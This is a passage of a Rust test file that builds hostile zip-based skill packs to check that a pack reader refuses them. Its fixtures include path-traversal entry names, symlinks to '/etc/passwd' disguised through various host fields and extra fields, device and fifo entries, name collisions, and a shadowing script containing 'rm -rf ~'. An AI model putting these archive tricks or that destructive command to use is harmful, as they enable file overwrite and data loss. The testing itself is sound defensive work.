//! Hostile skill packs and zip archives, each refused with the error it
//! deserves, before anything is exposed or written.
//!
//! Every archive is built here: a small crafting helper ([`Raw`], [`zip`])
//! writes whatever headers a test asks for, including local and central
//! headers that disagree, and can take a valid pack apart ([`decode`]) to
//! patch it. One table test runs every row through `Pack::open` (or
//! `Archive::parse` for limits a pack cannot reach) and checks the error
//! value and its message; a subset also goes through `skb unpack`, which
//! must fail without leaving anything behind, inside or outside its target.
//! `zip.rs`'s unit tests cover each `ZipError` on synthetic entries; here the
//! same tricks are played on real packs, through the public API and the CLI.

#![allow(clippy::unwrap_used)] // tests fail loudly on setup errors

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;

use crate::skills;
use skills_bundle::PathError;
use skills_bundle::pack::{Manifest, ManifestSkill, Pack, PackError, SignatureError, Trust};
use skills_bundle::session::{Session, SessionError};
use skills_bundle::zip::{Archive, Limits, NameError, ZipError};
use skills_bundle::{Bundle, Corrupt, Mode, ReadError};
use skills_compiler::embed::{Plan, PlanFile, PlanSkill, compress};
use skills_compiler::pack::{manifest, write_pack};
use skills_core::meta::{FileMeta, SkillMeta, pairs};
use skills_core::zip::write::DosTime;
use skills_tests::{tempdir, write_tree};

/// Runs `skills <args>` in `dir` with stdin closed, stamping packs 1980-01-01.
fn run(dir: &Path, args: &[&str]) -> Output {
    skills()
        .current_dir(dir)
        .args(args)
        .env_remove("SOURCE_DATE_EPOCH")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// Runs `skills <args>` in `dir`; it must succeed.
fn run_ok(dir: &Path, args: &[&str]) {
    let output = run(dir, args);
    assert!(output.status.success(), "{}", text(&output));
}

/// stdout and stderr together.
fn text(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

// ---------------------------------------------------------------------------
// Crafting zip archives.

/// The fields a local and a central header share; kept apart so that a
/// hostile archive can make them disagree.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Fields {
    name: Vec<u8>,
    /// "Version needed to extract".
    version: u16,
    flags: u16,
    method: u16,
    crc: u32,
    compressed: u32,
    size: u32,
    extra: Vec<u8>,
}

/// One entry, byte for byte: both headers, the stored bytes, and the
/// central-only fields.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Raw {
    local: Fields,
    central: Fields,
    /// DOS time in the low half, date in the high half.
    stamp: u32,
    made_by: u16,
    /// The Unix mode (the external attributes' high half).
    mode: u32,
    /// DOS attributes (the external attributes' low half).
    dos: u32,
    data: Vec<u8>,
}

const LOCAL_SIG: u32 = 0x0403_4b50;
const CENTRAL_SIG: u32 = 0x0201_4b50;
const END_SIG: u32 = 0x0605_4b50;
/// 1980-01-01 00:00:00, what the pack writer stamps by default.
const EPOCH: u32 = 0x0021 << 16;

impl Raw {
    /// A regular file (mode 0644), deflated when that is smaller.
    fn file(name: &str, contents: &[u8]) -> Raw {
        let f = compress(name, contents.to_vec(), false);
        Raw::with_data(
            name,
            f.stored,
            if f.deflated { 8 } else { 0 },
            f.crc32,
            f.meta.size,
        )
    }

    /// A regular file (mode 0644), stored.
    fn stored(name: &str, contents: &[u8]) -> Raw {
        let crc = compress(name, contents.to_vec(), false).crc32;
        Raw::with_data(name, contents.to_vec(), 0, crc, contents.len() as u64)
    }

    /// A directory entry (mode 040755); `name` ends with `/`.
    fn dir(name: &str) -> Raw {
        Raw::stored(name, b"").mode(0o040_755)
    }

    fn with_data(name: &str, data: Vec<u8>, method: u16, crc: u32, size: u64) -> Raw {
        let fields = Fields {
            name: name.as_bytes().to_vec(),
            version: 20,
            flags: 1 << 11,
            method,
            crc,
            compressed: data.len() as u32,
            size: size as u32,
            extra: Vec::new(),
        };
        Raw {
            local: fields.clone(),
            central: fields,
            stamp: EPOCH,
            made_by: 3 << 8 | 20,
            mode: 0o100_644,
            dos: 0,
            data,
        }
    }

    fn mode(mut self, mode: u32) -> Raw {
        self.mode = mode;
        self
    }

    /// Made by `host` (the high byte of "version made by").
    fn host(mut self, host: u16) -> Raw {
        self.made_by = host << 8 | 20;
        self
    }

    /// Changes a field in both headers.
    fn both(mut self, change: impl Fn(&mut Fields)) -> Raw {
        change(&mut self.local);
        change(&mut self.central);
        self
    }

    fn rename(self, name: &[u8]) -> Raw {
        self.both(|f| f.name = name.to_vec())
    }

    /// The local header followed by the data.
    fn local_bytes(&self) -> Vec<u8> {
        let mut b = Vec::new();
        put32(&mut b, LOCAL_SIG);
        put16(&mut b, self.local.version);
        common(&mut b, &self.local, self.stamp);
        b.extend_from_slice(&self.local.name);
        b.extend_from_slice(&self.local.extra);
        b.extend_from_slice(&self.data);
        b
    }

    /// The central header, pointing at a local header at `offset`.
    fn central_bytes(&self, offset: usize) -> Vec<u8> {
        let mut b = Vec::new();
        put32(&mut b, CENTRAL_SIG);
        put16(&mut b, self.made_by);
        put16(&mut b, self.central.version);
        common(&mut b, &self.central, self.stamp);
        b.extend_from_slice(&[0; 6]); // comment length, disk, internal attributes
        put32(&mut b, self.mode << 16 | self.dos);
        put32(&mut b, offset as u32);
        b.extend_from_slice(&self.central.name);
        b.extend_from_slice(&self.central.extra);
        b
    }
}

fn common(b: &mut Vec<u8>, f: &Fields, stamp: u32) {
    put16(b, f.flags);
    put16(b, f.method);
    put32(b, stamp);
    put32(b, f.crc);
    put32(b, f.compressed);
    put32(b, f.size);
    put16(b, f.name.len() as u16);
    put16(b, f.extra.len() as u16);
}

fn put16(b: &mut Vec<u8>, v: u16) {
    b.extend_from_slice(&v.to_le_bytes());
}

fn put32(b: &mut Vec<u8>, v: u32) {
    b.extend_from_slice(&v.to_le_bytes());
}

fn le16(b: &[u8], at: usize) -> usize {
    usize::from(u16::from_le_bytes([b[at], b[at + 1]]))
}

fn le32(b: &[u8], at: usize) -> u32 {
    u32::from_le_bytes([b[at], b[at + 1], b[at + 2], b[at + 3]])
}

/// `body` (local headers and data), then a central header for each (entry,
/// local header offset), then an end record declaring `count` entries.
fn assemble(mut body: Vec<u8>, headers: &[(&Raw, usize)], count: u16) -> Vec<u8> {
    let cd_start = body.len();
    for (raw, offset) in headers {
        body.extend(raw.central_bytes(*offset));
    }
    let cd_size = body.len() - cd_start;
    put32(&mut body, END_SIG);
    put32(&mut body, 0); // disk numbers
    put16(&mut body, count);
    put16(&mut body, count);
    put32(&mut body, cd_size as u32);
    put32(&mut body, cd_start as u32);
    put16(&mut body, 0); // comment length
    body
}

/// A plain archive of `entries`, in order.
fn zip(entries: &[Raw]) -> Vec<u8> {
    let mut body = Vec::new();
    let mut headers = Vec::new();
    for raw in entries {
        headers.push((raw, body.len()));
        body.extend(raw.local_bytes());
    }
    assemble(body, &headers, entries.len() as u16)
}

/// Takes apart an archive as plain as the pack writer's (no comments, one
/// disk): every entry with both headers, as [`zip`] writes it back.
fn decode(bytes: &[u8]) -> Vec<Raw> {
    let end = bytes.len() - 22;
    assert_eq!(le32(bytes, end), END_SIG, "a plain archive");
    let count = le16(bytes, end + 10);
    let mut at = le32(bytes, end + 16) as usize;
    let mut entries = Vec::new();
    for _ in 0..count {
        assert_eq!(le32(bytes, at), CENTRAL_SIG);
        let central = fields(bytes, at + 8, at + 46);
        let offset = le32(bytes, at + 42) as usize;
        let local = fields(bytes, offset + 6, offset + 30);
        let data_at = offset + 30 + local.name.len() + local.extra.len();
        entries.push(Raw {
            stamp: le32(bytes, at + 12),
            made_by: le16(bytes, at + 4) as u16,
            mode: le32(bytes, at + 38) >> 16,
            dos: le32(bytes, at + 38) & 0xFFFF,
            data: bytes[data_at..data_at + local.compressed as usize].to_vec(),
            local,
            central,
        });
        at += 46 + central_len(bytes, at);
    }
    entries
}

/// The fields at `at` (flags onwards, after "version needed"), with the
/// name and extra at `names`.
fn fields(bytes: &[u8], at: usize, names: usize) -> Fields {
    let (name_len, extra_len) = (le16(bytes, at + 20), le16(bytes, at + 22));
    Fields {
        version: le16(bytes, at - 2) as u16,
        flags: le16(bytes, at) as u16,
        method: le16(bytes, at + 2) as u16,
        crc: le32(bytes, at + 8),
        compressed: le32(bytes, at + 12),
        size: le32(bytes, at + 16),
        name: bytes[names..names + name_len].to_vec(),
        extra: bytes[names + name_len..names + name_len + extra_len].to_vec(),
    }
}

/// The variable part of the central header at `at`.
fn central_len(bytes: &[u8], at: usize) -> usize {
    le16(bytes, at + 28) + le16(bytes, at + 30) + le16(bytes, at + 32)
}

// ---------------------------------------------------------------------------
// The valid pack every row starts from.

const SKILL_MD: &str = "---\nname: two\ndescription: Reads notes and runs a script. Use when testing hostile packs.\nlicense: MIT\nallowed-tools: Bash(sh:*) Read\nmetadata:\n  author: tests\n---\nRead references/notes.md, then run scripts/run.sh $ARGUMENTS.\n";
const RUN_SH: &[u8] = b"#!/bin/sh\necho ok\n";

/// Repetitive enough to be deflated.
fn notes() -> Vec<u8> {
    (1..=12)
        .flat_map(|i| {
            format!("- note {i}: a pack is a zip file, checked before use.\n").into_bytes()
        })
        .collect()
}

/// The skill `two`: `SKILL.md`, `references/notes.md` (deflated) and
/// `scripts/run.sh` (executable, stored).
fn plan() -> Plan {
    let body_start = SKILL_MD.find("\n---\n").unwrap() + 5;
    let mut files = vec![
        compress("SKILL.md", SKILL_MD.as_bytes().to_vec(), false),
        compress("references/notes.md", notes(), false),
        compress("scripts/run.sh", RUN_SH.to_vec(), true),
    ];
    files.sort_by(|a, b| a.meta.path.cmp(&b.meta.path));
    let skill = PlanSkill {
        meta: SkillMeta {
            name: "two".into(),
            description: "Reads notes and runs a script. Use when testing hostile packs.".into(),
            license: Some("MIT".into()),
            metadata: pairs(vec![("author".into(), "tests".into())]),
            allowed_tools: vec![("Bash".into(), Some("sh:*".into())), ("Read".into(), None)].into(),
            skill_md: "SKILL.md".into(),
            body: (body_start as u32, SKILL_MD.len() as u32),
            frontmatter: r#"{"name":"two","description":"Reads notes and runs a script. Use when testing hostile packs.","license":"MIT","allowed-tools":"Bash(sh:*) Read","metadata":{"author":"tests"}}"#.into(),
            ..SkillMeta::default()
        },
        source_dir: "two".into(),
        files,
    };
    let mut plan = Plan {
        skills: vec![skill],
        ..Plan::default()
    };
    plan.digest = manifest(&plan).digest;
    plan
}

/// The file of the plan at `path`.
fn planned<'a>(plan: &'a Plan, path: &str) -> &'a PlanFile {
    plan.skills[0]
        .files
        .iter()
        .find(|f| f.meta.path == path)
        .unwrap()
}

/// What every row is made from.
struct Base {
    plan: Plan,
    /// The pack of `plan`.
    pack: Vec<u8>,
    /// Its entries: the manifest, `two/SKILL.md`, `two/references/notes.md`,
    /// `two/scripts/run.sh`.
    entries: Vec<Raw>,
    manifest: Manifest,
    signed: Signed,
}

impl Base {
    /// The pack with entry `i` changed.
    fn patched(&self, i: usize, change: impl FnOnce(Raw) -> Raw) -> Vec<u8> {
        let mut entries = self.entries.clone();
        entries[i] = change(entries[i].clone());
        zip(&entries)
    }

    /// The pack with `manifest` (as written by `to_json`, then `edit`ed) as
    /// its manifest.
    fn with_manifest(&self, manifest: &Manifest, edit: impl FnOnce(String) -> String) -> Vec<u8> {
        let json = edit(manifest.to_json());
        self.patched(0, |_| Raw::file("skillpack.json", json.as_bytes()))
    }

    /// The pack with the notes' data replaced by another valid deflate
    /// stream (one letter changed), the headers' CRC-32 and size kept.
    fn damaged_notes(&self) -> Vec<u8> {
        let mut other = notes();
        other[10] = b'X';
        let f = compress("references/notes.md", other, false);
        let len = f.stored.len() as u32;
        self.patched(2, |r| Raw {
            data: f.stored,
            ..r.both(|h| h.compressed = len)
        })
    }

    /// The manifest with the file at `path` changed, digest recomputed.
    fn manifest_with(&self, path: &str, change: impl FnOnce(&mut FileMeta)) -> Manifest {
        self.skill_with(|s| change(s.files.iter_mut().find(|f| f.path == path).unwrap()))
    }

    /// The manifest with the skill changed, digest recomputed.
    fn skill_with(&self, change: impl FnOnce(&mut ManifestSkill)) -> Manifest {
        let mut skills = self.manifest.skills.clone();
        change(&mut skills[0]);
        Manifest::new(self.manifest.tool.clone(), skills)
    }
}

/// A pack of the same skill made and signed by the CLI, and what it takes
/// to check it.
struct Signed {
    pack: Vec<u8>,
    signature: String,
    public_key: String,
    other_key: String,
    /// `pack` signed by stock minisign with a trusted comment naming another digest.
    other_digest_signature: String,
}

fn signed() -> Signed {
    let dir = tempdir();
    let d = dir.path();
    write_tree(
        d,
        &[
            ("two/SKILL.md", SKILL_MD.as_bytes()),
            ("two/references/notes.md", &notes()),
            ("two/scripts/run.sh", RUN_SH),
        ],
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let script = d.join("two/scripts/run.sh");
        std::fs::set_permissions(script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    for key in ["a", "b"] {
        let (public, secret) = (format!("{key}.pub"), format!("{key}.key"));
        run_ok(d, &["keygen", "-W", "-p", &public, "-s", &secret]);
    }
    run_ok(
        d,
        &["pack", "two", "-o", "two.skillpack", "--sign", "a.key"],
    );
    let other = format!("skills-digest-v2:{}", "0".repeat(64));
    let status = Command::new("minisign")
        .current_dir(d)
        .args([
            "-S",
            "-s",
            "a.key",
            "-m",
            "two.skillpack",
            "-x",
            "other.minisig",
        ])
        .args(["-t", &other])
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("cannot run `minisign` ({e}): `apt-get install minisign`"));
    assert!(status.status.success(), "{}", text(&status));
    let read = |name: &str| std::fs::read_to_string(d.join(name)).unwrap();
    Signed {
        pack: std::fs::read(d.join("two.skillpack")).unwrap(),
        signature: read("two.skillpack.minisig"),
        public_key: read("a.pub"),
        other_key: read("b.pub"),
        other_digest_signature: read("other.minisig"),
    }
}

/// Built once: the CLI runs a few times to make the signed pack.
fn base() -> &'static Base {
    static BASE: OnceLock<Base> = OnceLock::new();
    BASE.get_or_init(build_base)
}

fn build_base() -> Base {
    let plan = plan();
    let pack = write_pack(&plan, DosTime::EPOCH).unwrap();
    let entries = decode(&pack);
    assert_eq!(
        zip(&entries),
        pack,
        "the crafting helper rewrites a pack byte for byte"
    );
    let manifest = manifest(&plan);
    let signed = signed();
    assert_eq!(signed.pack, pack, "the CLI and write_pack agree");
    Base {
        plan,
        pack,
        entries,
        manifest,
        signed,
    }
}

// ---------------------------------------------------------------------------
// The table.

/// How a row's archive is opened.
enum Open {
    /// `Pack::open(bytes, Trust::Unsigned)`.
    Unsigned,
    /// `Pack::open(bytes, Trust::Signed { .. })`.
    Signed {
        public_key: String,
        signature: Option<String>,
    },
    /// `Archive::parse(bytes, limits)`: limits a pack cannot reach, or a
    /// plain zip (a `.skill`).
    Zip(Limits),
}

/// What must happen.
#[derive(Debug, PartialEq)]
enum Expect {
    Pack(PackError),
    Zip(ZipError),
    /// The pack opens, and reading `two/<path>` fails.
    Read(ReadError),
}

struct Row {
    name: &'static str,
    bytes: Vec<u8>,
    open: Open,
    expect: Expect,
    /// The message, exactly, or its end when the name in it may be escaped.
    message: String,
    exact: bool,
    /// Also run `skb unpack` on it.
    unpack: bool,
}

fn row(name: &'static str, bytes: Vec<u8>, expect: Expect, message: &str) -> Row {
    Row {
        name,
        bytes,
        open: Open::Unsigned,
        expect,
        message: message.to_string(),
        exact: true,
        unpack: false,
    }
}

impl Row {
    fn open(mut self, open: Open) -> Row {
        self.open = open;
        self
    }

    /// Checks only the end of the message, after a name that a message may
    /// print escaped (see `error_messages_do_not_print_control_characters`).
    fn escaped_name(mut self) -> Row {
        self.exact = false;
        self
    }

    fn unpack(mut self) -> Row {
        self.unpack = true;
        self
    }

    /// Checks the row; returns what went wrong.
    fn check(&self) -> Result<(), String> {
        let (actual, message) = match &self.open {
            Open::Zip(limits) => match read_all(&self.bytes, limits) {
                Ok(()) => return Err("read".into()),
                Err(e) => (Expect::Zip(e.clone()), e.to_string()),
            },
            open => {
                let trust = match open {
                    Open::Signed {
                        public_key,
                        signature,
                    } => Trust::Signed {
                        public_key,
                        signature: signature.as_deref(),
                    },
                    _ => Trust::Unsigned,
                };
                match Bundle::from_pack(&self.bytes, trust) {
                    Err(e) => (Expect::Pack(e.clone()), e.to_string()),
                    Ok(bundle) => {
                        let Expect::Read(ReadError::Corrupt { path, .. }) = &self.expect else {
                            return Err("opened".into());
                        };
                        let e = match bundle.get("two").unwrap().read(path) {
                            Ok(_) => return Err(format!("`{path}` was read")),
                            Err(e) => e,
                        };
                        // A model reading it through a session gets the
                        // same error and text: damaged, not an illegal path.
                        let session = Session::new(&bundle, (), Mode::Restrict);
                        match session.read("two", path) {
                            Err(s @ SessionError::Read(_)) if s.to_string() == e.to_string() => {}
                            other => return Err(format!("Session::read gave {other:?}")),
                        }
                        (Expect::Read(e.clone()), e.to_string())
                    }
                }
            }
        };
        if actual != self.expect {
            return Err(format!("got {actual:?}, expected {:?}", self.expect));
        }
        let matches = if self.exact {
            message == self.message
        } else {
            message.ends_with(&self.message)
        };
        if !matches {
            return Err(format!("message {message:?}, expected {:?}", self.message));
        }
        Ok(())
    }

    /// What `skb unpack` must say on stderr.
    fn unpack_message(&self) -> String {
        match &self.expect {
            Expect::Pack(PackError::Archive(e)) | Expect::Zip(e) => e.to_string(),
            Expect::Pack(e) => e.to_string(),
            Expect::Read(ReadError::Corrupt { path, reason }) => format!("two/{path}: {reason}"),
            Expect::Read(e) => e.to_string(),
        }
    }
}

/// Parses `bytes` and reads every entry, as `skb unpack` does a plain zip.
fn read_all(bytes: &[u8], limits: &Limits) -> Result<(), ZipError> {
    let archive = Archive::parse(bytes, limits)?;
    archive
        .entries()
        .iter()
        .try_for_each(|e| e.read(bytes).map(drop))
}

fn archive(e: ZipError) -> Expect {
    Expect::Pack(PackError::Archive(e))
}

fn bad_name(name: &str, reason: PathError) -> Expect {
    archive(ZipError::Name(NameError::BadName {
        name: name.into(),
        reason,
    }))
}

fn s(text: &str) -> String {
    text.to_string()
}

/// Paths that would leave the target, or mean another path elsewhere.
fn name_rows(b: &Base) -> Vec<Row> {
    let renamed = |name: &[u8]| b.patched(2, |r| r.rename(name));
    let parent = "the path contains `..`; it may not leave the skill directory";
    let absolute = "the path is absolute; paths are relative to the skill directory";
    vec![
        row(
            "name `../escape`",
            renamed(b"../escape"),
            bad_name("../escape", PathError::ParentDir),
            &format!("archive: entry `../escape`: {parent}"),
        )
        .unpack(),
        row(
            "name `two/../../escape`",
            renamed(b"two/../../escape"),
            bad_name("two/../../escape", PathError::ParentDir),
            &format!("archive: entry `two/../../escape`: {parent}"),
        )
        .unpack(),
        row(
            "name `/etc/x`",
            renamed(b"/etc/x"),
            bad_name("/etc/x", PathError::Absolute),
            &format!("archive: entry `/etc/x`: {absolute}"),
        )
        .unpack(),
        row(
            "name `C:/x`",
            renamed(b"C:/x"),
            bad_name("C:/x", PathError::Absolute),
            &format!("archive: entry `C:/x`: {absolute}"),
        ),
        row(
            "name `C:x`",
            renamed(b"C:x"),
            bad_name("C:x", PathError::Absolute),
            &format!("archive: entry `C:x`: {absolute}"),
        )
        .unpack(),
        row(
            "name `two\\..\\..\\x` (backslashes)",
            renamed(b"two\\..\\..\\x"),
            bad_name("two\\..\\..\\x", PathError::Backslash),
            "`: the path contains `\\`; use `/` as the separator",
        )
        .escaped_name()
        .unpack(),
        row(
            "name with NUL `two/run.sh\\0.txt`",
            renamed(b"two/run.sh\0.txt"),
            bad_name("two/run.sh\0.txt", PathError::Control),
            "`: the path contains a control character",
        )
        .escaped_name(),
        row(
            "name `two/./SKILL.md`, not normal",
            b.patched(1, |r| r.rename(b"two/./SKILL.md")),
            archive(ZipError::Name(NameError::NameNotNormal {
                name: s("two/./SKILL.md"),
                normal: s("two/SKILL.md"),
            })),
            "archive: entry `two/./SKILL.md` is not a normal path; it would be `two/SKILL.md`",
        ),
        row(
            "name not UTF-8",
            renamed(b"two/caf\xe9"),
            archive(ZipError::NameNotUtf8 {
                index: 2,
                lossy: s("two/caf\u{FFFD}"),
            }),
            "archive: entry `two/caf\u{FFFD}`: the name is not UTF-8",
        ),
        row(
            "Unicode Path extra field renaming an entry to `../evil`",
            b.patched(2, |r| {
                let mut field = vec![0x75, 0x70, 12, 0, 1, 0, 0, 0, 0];
                field.extend_from_slice(b"../evil");
                r.both(|f| f.extra = field.clone())
            }),
            archive(ZipError::UnicodePathField {
                name: s("two/references/notes.md"),
            }),
            "archive: entry `two/references/notes.md` has an Info-ZIP Unicode Path extra field, which could rename it",
        ),
    ]
}

/// Links, devices and names that collide.
fn kind_rows(b: &Base) -> Vec<Row> {
    let special = |kind| {
        archive(ZipError::SpecialFile {
            name: s("two/scripts/run.sh"),
            kind,
        })
    };
    let message = |kind: &str| {
        format!(
            "archive: entry `two/scripts/run.sh` is a {kind}; only regular files and directories are allowed"
        )
    };
    let with = |extra: Raw| {
        let mut entries = b.entries.clone();
        entries.push(extra);
        zip(&entries)
    };
    vec![
        row(
            "symbolic link (mode 0120777) to `/etc/passwd`",
            b.patched(3, |_| {
                Raw::stored("two/scripts/run.sh", b"/etc/passwd").mode(0o120_777)
            }),
            special("symbolic link"),
            &message("symbolic link"),
        )
        .unpack(),
        row(
            "character device (mode 020644)",
            b.patched(3, |r| r.mode(0o020_644)),
            special("character device"),
            &message("character device"),
        ),
        row(
            "fifo (mode 010644)",
            b.patched(3, |r| r.mode(0o010_644)),
            special("fifo"),
            &message("fifo"),
        )
        .unpack(),
        row(
            "duplicate name",
            with(Raw::file("two/scripts/run.sh", b"rm -rf ~\n")),
            archive(ZipError::Name(NameError::DuplicateName {
                name: s("two/scripts/run.sh"),
            })),
            "archive: entry `two/scripts/run.sh` appears twice",
        ),
        row(
            "names equal but for case: `two/SKILL.md`, `two/skill.md`",
            with(Raw::file("two/skill.md", b"shadow\n")),
            archive(ZipError::Name(NameError::CaseCollision {
                name: s("two/skill.md"),
                other: s("two/SKILL.md"),
            })),
            "archive: entries `two/SKILL.md` and `two/skill.md` differ only by case and collide on case-insensitive file systems",
        ),
        row(
            "NFC and NFD twins: `two/café.txt` composed and decomposed",
            {
                let mut entries = b.entries.clone();
                entries.push(Raw::file("two/caf\u{e9}.txt", b"composed\n"));
                entries.push(Raw::file("two/cafe\u{301}.txt", b"decomposed\n"));
                zip(&entries)
            },
            archive(ZipError::Name(NameError::NormalizationCollision {
                name: s("two/cafe\u{301}.txt"),
                other: s("two/caf\u{e9}.txt"),
            })),
            "archive: entries `two/caf\\u{e9}.txt` and `two/cafe\\u{301}.txt` are one name in two Unicode normalisations and collide on macOS file systems",
        )
        .unpack(),
        row(
            "a file used as a directory: `two/SKILL.md/x`",
            with(Raw::file("two/SKILL.md/x", b"x")),
            archive(ZipError::Name(NameError::FileIsPrefix {
                file: s("two/SKILL.md"),
                entry: s("two/SKILL.md/x"),
            })),
            "archive: file `two/SKILL.md` is also used as a directory by entry `two/SKILL.md/x`",
        ),
        row(
            "a directory entry with data",
            with(Raw::stored("two/d/", b"data").mode(0o040_755)),
            archive(ZipError::DirWithData { name: s("two/d/") }),
            "archive: directory entry `two/d/` has a non-zero size",
        ),
        row(
            "a directory entry the manifest does not list",
            with(Raw::dir("two/scripts/")),
            Expect::Pack(PackError::Mismatch(s(
                "entry `two/scripts/` is not listed in the manifest",
            ))),
            "manifest: entry `two/scripts/` is not listed in the manifest",
        ),
    ]
}

/// One extra field: id, length, data.
fn extra_field(id: u16, data: &[u8]) -> Vec<u8> {
    let mut b = Vec::new();
    put16(&mut b, id);
    put16(&mut b, data.len() as u16);
    b.extend_from_slice(data);
    b
}

/// Issue 17, item 5: an entry whose type another field than a Unix host's
/// mode decides. Each row's archive makes at least one mainstream
/// extractor write something other than a regular file, or skip it: the
/// mode under another "version made by" host, the DOS attribute bits, an
/// extra field carrying a mode or a link.
fn other_host_rows(b: &Base) -> Vec<Row> {
    let run = "two/scripts/run.sh";
    let link = |host: u16, mode: u32, dos: u32| {
        b.patched(3, |_| Raw {
            dos,
            ..Raw::stored(run, b"/etc/passwd").host(host).mode(mode)
        })
    };
    let special = |kind| archive(ZipError::SpecialFile { name: s(run), kind });
    let message = |kind: &str| {
        format!(
            "archive: entry `{run}` is a {kind}; only regular files and directories are allowed"
        )
    };
    let by_field = |field: u16, kind| {
        archive(ZipError::SpecialExtraField {
            name: s(run),
            field,
            kind,
        })
    };
    let field_message = |field: u16, kind: &str| {
        format!(
            "archive: entry `{run}` is a {kind} by its extra field 0x{field:04x}; only regular files and directories are allowed"
        )
    };
    // ASi Unix: CRC-32, mode, size, user, group, then the link target.
    let asi = {
        let mut data = vec![0; 4];
        put16(&mut data, 0o120_777);
        data.extend_from_slice(&[0; 8]);
        data.extend_from_slice(b"/etc/passwd");
        extra_field(0x756e, &data)
    };
    // PKWARE Unix: times, user, group, then the link target.
    let pkware = extra_field(0x000d, &[&[0; 12][..], b"/etc/passwd"].concat());
    // libarchive's `xl`: bitmap (made by, external attributes), made by
    // Unix, then the attributes of a link.
    let xl = {
        let mut data = vec![1 | 4];
        put16(&mut data, 3 << 8 | 20);
        put32(&mut data, 0o120_777 << 16);
        extra_field(0x6c78, &data)
    };
    let with_extra = |extra: &[u8], local_only: bool| {
        b.patched(3, |mut r| {
            r.local.extra = extra.to_vec();
            if !local_only {
                r.central.extra = extra.to_vec();
            }
            r
        })
    };
    let overrun = [0x55, 0x54, 9, 0, 1];
    vec![
        row(
            "FAT host (0), mode 0120644: `unzip` extracts a link to `/etc/passwd`",
            link(0, 0o120_644, 0),
            special("symbolic link"),
            &message("symbolic link"),
        )
        .unpack(),
        row(
            "Atari host (5), mode 0120777: `unzip` extracts a link",
            link(5, 0o120_777, 0),
            special("symbolic link"),
            &message("symbolic link"),
        ),
        row(
            "BeOS host (16), mode 0120777: `unzip` extracts a link",
            link(16, 0o120_777, 0),
            special("symbolic link"),
            &message("symbolic link"),
        )
        .unpack(),
        row(
            "OS X host (19), mode 0120777: Go's `archive/zip` reads a link",
            link(19, 0o120_777, 0),
            special("symbolic link"),
            &message("symbolic link"),
        ),
        row(
            "NTFS host (11), mode 0120777 with p7zip's marker 0x8000: 7-Zip reads a link",
            link(11, 0o120_777, 0x8000),
            special("symbolic link"),
            &message("symbolic link"),
        ),
        row(
            "VMS host (2), mode 010644: a fifo",
            link(2, 0o010_644, 0),
            special("fifo"),
            &message("fifo"),
        ),
        row(
            "FAT host, DOS directory bit on a file: a directory for libarchive, 7-Zip and Go",
            link(0, 0, 0x10),
            archive(ZipError::KindMismatch {
                name: s(run),
                field: "DOS directory attribute",
            }),
            &format!(
                "archive: entry `{run}`: its DOS directory attribute and its trailing `/` disagree on whether it is a directory"
            ),
        ),
        row(
            "FAT host, DOS volume label bit: `unzip` skips the entry",
            link(0, 0, 0x08),
            special("volume label"),
            &message("volume label"),
        )
        .unpack(),
        row(
            "ASi Unix extra field (0x756e) with a link to `/etc/passwd`, mode 0",
            b.patched(3, |_| {
                Raw::stored(run, b"/etc/passwd")
                    .mode(0)
                    .both(|f| f.extra = asi.clone())
            }),
            by_field(0x756e, "symbolic link"),
            &field_message(0x756e, "symbolic link"),
        ),
        row(
            "PKWARE Unix extra field (0x000d) with link data",
            with_extra(&pkware, false),
            by_field(0x000d, "symbolic link or device"),
            &field_message(0x000d, "symbolic link or device"),
        )
        .unpack(),
        row(
            "libarchive `xl` extra field (0x6c78) in the local header only, a link",
            with_extra(&xl, true),
            by_field(0x6c78, "symbolic link"),
            &field_message(0x6c78, "symbolic link"),
        )
        .unpack(),
        row(
            "an extra field that runs past its block: Python refuses the archive",
            with_extra(&overrun, false),
            archive(ZipError::BadExtraField {
                name: s(run),
                field: 0x5455,
            }),
            &format!(
                "archive: entry `{run}`: extra field 0x5455 runs past the end of the extra data or is truncated"
            ),
        ),
    ]
}

/// Issue 17, item 5: "version needed to extract" beyond what the reader
/// extracts (2.0). `unzip` 6.0 skips an entry that needs more than its
/// 4.6, Python refuses an archive with one over 6.3, and `unzip` asks
/// before extracting one whose high byte names VMS.
fn version_rows(b: &Base) -> Vec<Row> {
    let notes = "two/references/notes.md";
    let needing = |version: u16| b.patched(2, |r| r.both(|f| f.version = version));
    let refused = |needed: u16| {
        archive(ZipError::VersionNeeded {
            name: s(notes),
            needed,
        })
    };
    vec![
        row(
            "version needed 6.3 (LZMA): `unzip` skips the entry",
            needing(63),
            refused(63),
            &format!(
                "archive: entry `{notes}` needs zip version 6.3 to extract; this reader supports up to 2.0 (stored and deflate)"
            ),
        )
        .unpack(),
        row(
            "version needed 6.4: Python refuses the archive",
            needing(64),
            refused(64),
            &format!(
                "archive: entry `{notes}` needs zip version 6.4 to extract; this reader supports up to 2.0 (stored and deflate)"
            ),
        ),
        row(
            "version needed 4.5 (ZIP64) without ZIP64 fields",
            needing(45),
            refused(45),
            &format!(
                "archive: entry `{notes}` needs zip version 4.5 to extract; this reader supports up to 2.0 (stored and deflate)"
            ),
        ),
        row(
            "version needed 2.0 on VMS (0x0214): `unzip` asks before extracting",
            needing(0x0214),
            refused(0x0214),
            &format!(
                "archive: entry `{notes}` needs host system 2 to extract (\"version needed to extract\" is 0x0214); only entries any system extracts (0) are supported"
            ),
        ),
        row(
            "local version needed 6.3, central 2.0: a streaming reader reads the local one",
            b.patched(2, |mut r| {
                r.local.version = 63;
                r
            }),
            archive(ZipError::LocalHeaderMismatch {
                name: s(notes),
                field: "version needed to extract",
            }),
            &format!(
                "archive: entry `{notes}`: the local header's version needed to extract differs from the central directory's"
            ),
        ),
    ]
}

/// Local headers that say something else than the central directory, and
/// flags and methods outside the accepted subset.
fn header_rows(b: &Base) -> Vec<Row> {
    let notes = "two/references/notes.md";
    let mismatch = |field| {
        archive(ZipError::LocalHeaderMismatch {
            name: s(notes),
            field,
        })
    };
    let message = |field: &str| {
        format!(
            "archive: entry `{notes}`: the local header's {field} differs from the central directory's"
        )
    };
    vec![
        row(
            "local name `../../escape`, central name `two/references/notes.md`",
            b.patched(2, |mut r| {
